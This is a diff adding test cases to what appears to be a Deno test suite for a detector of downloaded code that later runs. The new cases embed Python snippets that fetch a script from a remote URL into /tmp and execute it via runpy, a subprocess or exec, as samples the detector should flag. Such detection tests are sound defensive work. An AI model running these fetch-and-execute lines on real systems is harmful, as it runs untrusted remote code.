@@ -1058,6 +1058,17 @@ Deno.test("downloaded data run by way of a file or a process is still run: writt
     ),
     [4],
   );
+  // Saved by urlretrieve, then run by runpy, by the running interpreter, or read back and
+  // exec'd.
+  const saved = "import runpy, subprocess, sys, urllib.request\n" +
+    'urllib.request.urlretrieve("https://get.notes-cloud.net/p", "/tmp/p.py")\n';
+  assert.deepEqual(flows("scripts/g.py", `${saved}runpy.run_path("/tmp/p.py")\n`), [3]);
+  assert.deepEqual(
+    flows("scripts/h.py", `${saved}subprocess.run([sys.executable, "/tmp/p.py"])\n`),
+    [3],
+  );
+  assert.deepEqual(flows("scripts/i.py", `${saved}exec(open("/tmp/p.py").read())\n`), [3]);
+  assert.deepEqual(flows("scripts/j.py", `${saved}print(open("/tmp/p.py").read())\n`), []);
   // curl started as a process, its output fed to a shell's stdin.
   assert.deepEqual(
     flows(
